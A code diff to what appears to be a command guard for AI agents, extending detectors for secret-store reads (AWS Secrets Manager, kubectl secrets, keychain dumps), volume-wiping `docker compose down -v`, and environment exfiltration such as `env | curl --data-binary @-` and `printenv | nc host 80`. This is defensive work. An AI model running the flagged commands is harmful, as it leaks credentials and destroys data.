@@ -90,16 +90,40 @@ def _pkill(judge: Scope, call: Call) -> Verdict | None:
 _STORE_READS = ("get-secret-value", "get-parameter", "get-parameters", "get-parameters-by-path")
 
 
+# Options of aws / kubectl that take no value: every other option before or between the
+# subcommand words takes one (`aws --profile prod --region eu-west-1 secretsmanager …`).
+_FLAGS_WITHOUT_VALUE = frozenset({
+    "--debug", "--no-verify-ssl", "--no-paginate", "--no-cli-pager", "--no-sign-request",
+    "--no-cli-auto-prompt", "--cli-auto-prompt", "--with-decryption", "--no-with-decryption",
+    "-A", "--all-namespaces", "--insecure-skip-tls-verify", "-w", "--watch",
+})
+
+
+def subcommand_words(argv: list[str]) -> list[str]:
+    """The positional words of a CLI whose options may come anywhere (aws, kubectl)."""
+    words: list[str] = []
+    j = 0
+    while j < len(argv):
+        arg = argv[j]
+        if arg.startswith("-") and arg != "-":
+            j += 1 if "=" in arg or arg in _FLAGS_WITHOUT_VALUE or (arg[1:2] != "-" and len(arg) > 2) else 2
+            continue
+        words.append(arg)
+        j += 1
+    return words
+
+
 def secret_store(judge: Scope, call: Call) -> Verdict | None:
     argv = call.argv
     text = " ".join(argv)
+    sub = subcommand_words(argv) if call.name in ("aws", "kubectl", "oc") else argv
     reads = (
-        (call.name == "aws" and argv[:1] in (["secretsmanager"], ["ssm"])
-         and any(a in _STORE_READS for a in argv)
-         and (argv[:1] == ["secretsmanager"] or "--with-decryption" in argv)),
-        (call.name in ("kubectl", "oc") and argv[:2] in (["get", "secret"], ["get", "secrets"])
+        (call.name == "aws" and sub[:1] in (["secretsmanager"], ["ssm"])
+         and any(a in _STORE_READS for a in sub)
+         and (sub[:1] == ["secretsmanager"] or "--with-decryption" in argv)),
+        (call.name in ("kubectl", "oc") and sub[:2] in (["get", "secret"], ["get", "secrets"])
          and any(a.startswith(("-o", "--output")) for a in argv)),
-        (call.name in ("kubectl", "oc") and argv[:2] in (["create", "token"],)),
+        (call.name in ("kubectl", "oc") and sub[:2] in (["create", "token"],)),
         (call.name == "security" and argv[:1] in (["find-generic-password"], ["find-internet-password"],
                                                   ["dump-keychain"])),
         (call.name == "gh" and argv[:2] == ["auth", "token"]),
@@ -141,7 +165,26 @@ _LISTINGS = {("ps",), ("images",), ("container", "ls"), ("container", "list"), (
              ("image", "list"), ("volume", "ls"), ("network", "ls")}
 
 
+_COMPOSE_VALUED = frozenset({"-f", "--file", "-p", "--project-name", "--profile", "--env-file",
+                             "--project-directory", "--ansi", "--progress", "--parallel"})
+
+
+def compose_down_volumes(judge: Scope, program: str, argv: list[str]) -> Verdict | None:
+    """`docker compose down -v` (and `rm -v`): the project's named volumes, its databases'
+    data, are deleted with the containers."""
+    j = 0
+    while j < len(argv) and argv[j].startswith("-"):
+        j += 1 if "=" in argv[j] or argv[j] not in _COMPOSE_VALUED else 2
+    sub, options = argv[j : j + 1], argv[j + 1 :]
+    if sub in (["down"], ["rm"]) and ("--volumes" in options or has_short(options, "v")):
+        reason = f"{program} {sub[0]} -v deletes the project's volumes (its data)"
+        return judge.verdict("container-wipe", "ask", reason)
+    return None
+
+
 def _container_wipe(judge: Scope, call: Call, words: list[str]) -> Verdict | None:
+    if words[:1] == ["compose"]:
+        return compose_down_volumes(judge, f"{call.name} compose", words[1:])
     what = f"{call.name} {' '.join(w for w in words[:2] if not w.startswith(('-', '$')))}"
     everything = has_short(words, "a") or "--all" in words or "--volumes" in words
     if words[:2] in (["system", "reset"], ["volume", "prune"], ["container", "prune"]) or (
@@ -328,9 +371,15 @@ _ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare"})
 
 
 def exfiltration(judge: Scope, call: Call) -> Verdict | None:
-    """`env | curl --data-binary @- …`, `printenv | nc host 80`: the whole environment
-    (tokens included) sent over the network."""
-    for command in call.upstream:
+    """`env | curl --data-binary @- …`, `printenv | nc host 80`, `curl -d "$(env)" …`: the
+    whole environment (tokens included) sent over the network."""
+    from agentops_os.guard.shell import commands_of
+
+    sources = list(call.upstream)
+    for word in call.args:  # `-d "$(env)"`, `--data @<(printenv)`
+        for tokens in word.subs:
+            sources.extend(commands_of(tokens))
+    for command in sources:
         if command.words and command.words[0].text.rsplit("/", 1)[-1] in _ENV_DUMPS:
             source = command.words[0].text  # e.g. env
             reason = f"{call.name} sends the output of {source}, every token in the environment, out"
